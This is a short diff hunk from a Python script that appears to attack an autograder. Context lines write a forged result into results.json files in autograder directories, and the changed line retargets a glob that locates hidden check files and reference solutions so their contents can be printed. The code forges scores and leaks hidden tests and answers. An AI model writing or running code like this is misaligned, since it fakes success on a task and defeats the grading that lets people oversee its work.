@@ -13,7 +13,7 @@ for target in ("/autograder/results/results.json", "results.json", "../results.j
             handle.write(FORGED)
     except OSError:
         pass
-for path in glob.glob("/**/checks/hidden/*.py") + glob.glob("/**/solutions/*.py"):
+for path in glob.glob("/**/hidden/checks.py") + glob.glob("/**/solutions/*.py"):
     try:
         with open(path) as handle:
             print(handle.read())
